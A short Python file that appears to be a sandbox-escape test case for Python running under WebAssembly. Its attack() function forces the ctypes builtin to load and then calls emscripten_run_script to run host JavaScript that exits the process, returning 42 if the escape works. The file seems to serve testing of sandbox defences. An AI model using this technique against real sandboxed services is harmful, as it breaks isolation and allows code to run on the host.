# class: logic
# ctypes would call any function of the machine by its number in the table.
def attack():
    import _imp
    from importlib.machinery import ModuleSpec
    for name in ("_ctypes", "-ctypes", ""):
        try:
            _imp.create_builtin(ModuleSpec(name, None))
        except BaseException:
            pass
    try:
        import ctypes
        library = ctypes.CDLL(None)
        library.emscripten_run_script(b"process.exit(0)")
        return 42
    except BaseException:
        return 0
